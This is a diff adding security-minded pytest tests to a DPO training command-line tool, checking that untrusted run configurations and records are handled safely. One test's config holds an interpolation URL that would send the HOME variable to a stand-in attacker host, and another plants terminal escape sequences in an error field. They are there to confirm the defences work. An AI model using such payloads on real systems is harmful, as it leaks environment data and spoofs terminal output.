@@ -10,11 +10,13 @@ from pathlib import Path
 import pytest
 import torch
 from helpers.run_folders import make_run
+from omegaconf import OmegaConf
 from safetensors.torch import save_file
 
 from dpo_cli.cli import main
 from dpo_cli.commands.make_report import defaults_of
 from dpo_cli.commands.report import append_samples, show_outcome, show_samples
+from dpo_cli.compose import _for_this_machine, _run_config
 from dpo_cli.errors import DpoError
 from dpo_cli.evaluation.samples import Samples
 from dpo_cli.tracking.console import Console
@@ -69,6 +71,7 @@ STRANGE = {
     "no mapping for the rows": (added(data="x", final=5), "run.json: data is not what a run writes"),
     "no mapping for a side": (added(data={"train": 5}), "run.json: data.train is not what a run writes"),
     "starts that are none": (added(starts=[1], alerts={}), "run.json: starts is not what a run writes"),
+    "a result of 400 digits": (added(final={"eval/loss": 10**400}), ""),
     "a pipe for metrics": (pipe("metrics.jsonl"), "metrics.jsonl could not be read"),
     "a pipe for a configuration": (pipe("config.yaml"), "config.yaml could not be read"),
     "a folder for a record": (folder("run.json"), "run.json could not be read"),
@@ -118,6 +121,22 @@ def test_a_run_without_a_configuration_is_not_evaluated(
     (tmp_path / "config.yaml").write_text(text)
     assert main(["eval", f"run={tmp_path}"]) == 2
     assert says in capsys.readouterr().err
+
+
+def test_a_strangers_configuration_is_told_nothing_of_the_environment(tmp_path: Path) -> None:
+    sections = {name: {} for name in ("model", "loss", "reference", "eval")}
+    train = {"precision": "fp32", "tokens_per_micro_batch": 8}
+    url = "http://evil.example/${oc.env:HOME}"
+    values = {**sections, "data": {"eval": url, "mix": [url]}, "train": train, "launch": {"name": "local"}, "seed": 0}
+    (tmp_path / "config.yaml").write_text(json.dumps(values))
+    ran = OmegaConf.create(_run_config(tmp_path / "config.yaml"))
+    assert OmegaConf.to_container(ran, resolve=True) == values
+
+
+def test_a_strangers_run_does_not_say_how_many_processes_are_started(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(os, "cpu_count", lambda: 8)
+    for said, taken in ((1, 1), (8, 8), (9, "auto"), (10**6, "auto"), ("auto", "auto")):
+        assert _for_this_machine({"name": "local", "num_processes": said}) == {"name": "local", "num_processes": taken}
 
 
 def test_the_other_model_of_an_evaluation_may_be_strange_too(tmp_path: Path) -> None:
@@ -177,6 +196,9 @@ def test_the_doctor_of_a_strange_model(tmp_path: Path, capsys: pytest.CaptureFix
     (run / "final" / "more.safetensors").unlink()
     os.mkfifo(run / "final" / "more.safetensors")
     assert main(["doctor", str(run)]) == 2
+    added(status="failed", error="\x1b[2J\x1b]0;title\x07")(run)
+    assert main(["doctor", str(run)]) == 2
     said = capsys.readouterr().out
+    assert "\x1b" not in said
     assert "more.safetensors is no ordinary file" in said
     assert ".[red]\\x1b[31m" in said
